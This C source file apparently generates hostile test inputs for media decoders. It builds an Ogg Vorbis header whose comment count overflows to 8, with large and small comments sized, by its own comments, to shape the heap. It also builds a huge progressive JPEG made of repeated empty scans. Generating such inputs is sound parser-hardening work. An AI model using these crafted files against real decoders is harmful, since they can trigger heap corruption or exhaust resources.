/* SPDX-License-Identifier: Apache-2.0 */
#include "hostile.h"

#include <stdlib.h>
#include <string.h>

struct out {
	uint8_t *bytes;
	size_t count, room;
};

static void put(struct out *o, const void *from, size_t count)
{
	if (o->count + count <= o->room) {
		memcpy(o->bytes + o->count, from, count);
	}
	o->count += count;
}

/* n as so many bytes, the lowest first; Ogg and Vorbis. */
static void put_low(struct out *o, uint64_t n, unsigned int count)
{
	for (unsigned int i = 0; i < count; i++) {
		put(o, &(uint8_t){(uint8_t)(n >> 8 * i)}, 1);
	}
}

/* ---- Vorbis ------------------------------------------------------------------------------------------------------------ */

#define FIRST_BYTES 30
#define LARGE 4          /* comments that malloc takes from the kernel, so that they leave the heap as it is */
#define LARGE_BYTES 200000u
#define SMALL 1000       /* and such that it takes from behind the list, which is written over by then */
#define SEGMENTS 255     /* of a page */

static uint32_t page_sum(const uint8_t *page, size_t bytes)
{
	uint32_t sum = 0;

	for (size_t i = 0; i < bytes; i++) {
		sum ^= (uint32_t)page[i] << 24;
		for (unsigned int bit = 0; bit < 8; bit++) {
			sum = sum << 1 ^ (sum >> 31 != 0 ? 0x04c11db7u : 0);
		}
	}
	return sum;
}

/* One packet, in as many pages as it takes; *number is that of the next page. */
static void put_packet(struct out *o, const uint8_t *packet, size_t bytes, uint32_t *number)
{
	size_t segments = bytes / 255 + 1, done = 0;

	for (size_t first = 0; first < segments; first += SEGMENTS) {
		const size_t begin = o->count, n = segments - first < SEGMENTS ? segments - first : SEGMENTS;
		size_t body = 0;

		put(o, "OggS", 5); /* and version 0 */
		put_low(o, (first != 0 ? 1 : 0) | (*number == 0 ? 2 : 0), 1);
		put_low(o, 0, 8);
		put_low(o, 45681, 4);
		put_low(o, (*number)++, 4);
		put_low(o, 0, 4);
		put_low(o, n, 1);
		for (size_t i = 0; i < n; i++) {
			const size_t left = bytes - (first + i) * 255, length = left < 255 ? left : 255;
			put_low(o, length, 1);
			body += length;
		}
		put(o, packet + done, body);
		done += body;
		if (o->count <= o->room) {
			const uint32_t sum = page_sum(o->bytes + begin, o->count - begin);
			memcpy(o->bytes + begin + 22, &sum, sizeof(sum));
		}
	}
}

static void put_comments(struct out *o)
{
	static const char small[] = "a";

	put(o, "\3vorbis", 7);
	put_low(o, 0, 4);           /* no vendor */
	put_low(o, 0x20000001u, 4); /* times 8, in an int, is 8 */
	for (unsigned int i = 0; i < LARGE; i++) {
		put_low(o, LARGE_BYTES, 4);
		for (unsigned int n = 0; n < LARGE_BYTES; n++) {
			put(o, "C", 1);
		}
	}
	for (unsigned int i = 0; i < SMALL; i++) {
		put_low(o, 1, 4);
		put(o, small, 1);
	}
}

uint8_t *hostile_vorbis(size_t *bytes)
{
	const size_t comments = 64 + (LARGE_BYTES + 4) * LARGE + 5 * SMALL;
	struct out first = {(uint8_t[FIRST_BYTES]){0}, 0, FIRST_BYTES};
	struct out second = {malloc(comments), 0, comments}, file = {malloc(2 * comments), 0, 2 * comments};
	uint32_t pages = 0;

	if (second.bytes == NULL || file.bytes == NULL) {
		free(second.bytes);
		free(file.bytes);
		return NULL;
	}
	put(&first, "\1vorbis", 7);
	put_low(&first, 0, 4);
	put_low(&first, 2, 1);
	put_low(&first, 44100, 4);
	put_low(&first, 0, 12);
	put_low(&first, 0xb8, 1); /* blocks of 256 and 2048 */
	put_low(&first, 1, 1);
	put_packet(&file, first.bytes, first.count, &pages);
	put_comments(&second);
	put_packet(&file, second.bytes, second.count, &pages);
	free(second.bytes);
	*bytes = file.count;
	return file.bytes;
}

/* ---- JPEG -------------------------------------------------------------------------------------------------------------- */

#define EDGE 4000u
#define BLOCKS (EDGE / 8 * (EDGE / 8))
#define LONGEST_RUN 32767u
#define SCAN_MAX 64

/* "No more coefficients in this block, and in as many after it": one code for up to LONGEST_RUN blocks. */
static void put_empty_scan(struct out *o)
{
	uint32_t bits = 0, left = BLOCKS;
	unsigned int have = 0;

	put(o, "\xff\xda\0\10\1\1\0\1\77\0", 10);
	while (left > 0 || have > 0) {
		if (left > 0) {
			const uint32_t run = left < LONGEST_RUN ? left : LONGEST_RUN;

			bits = bits << 15 | (run - 16384); /* the code is 0; 14 bits say how many beyond 16384 */
			have += 15;
			left -= run;
		} else {
			const unsigned int pad = 8 - have % 8;
			bits = pad != 8 ? bits << pad | ((1u << pad) - 1) : bits;
			have += pad != 8 ? pad : 0;
		}
		while (have >= 8) {
			const uint8_t byte = (uint8_t)(bits >> (have - 8));
			put(o, &byte, 1);
			if (byte == 0xff) {
				put(o, "", 1);
			}
			have -= 8;
		}
	}
}

uint8_t *hostile_jpeg(size_t *bytes, size_t wanted)
{
	struct out o = {malloc(wanted + 512), 0, wanted + 512};

	if (o.bytes == NULL) {
		return NULL;
	}
	put(&o, "\xff\xd8\xff\xdb\0\103\0", 7);
	for (unsigned int i = 0; i < 64; i++) {
		put(&o, "\1", 1);
	}
	put(&o, "\xff\xc2\0\13\10", 5);
	put(&o, (uint8_t[4]){EDGE >> 8, EDGE & 255, EDGE >> 8, EDGE & 255}, 4);
	put(&o, "\1\1\21\0", 4);
	put(&o, "\xff\xc4\0\24\20\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xe0", 22);
	while (o.count + SCAN_MAX < wanted) {
		put_empty_scan(&o);
	}
	put(&o, "\xff\xd9", 2);
	*bytes = o.count;
	return o.bytes;
}
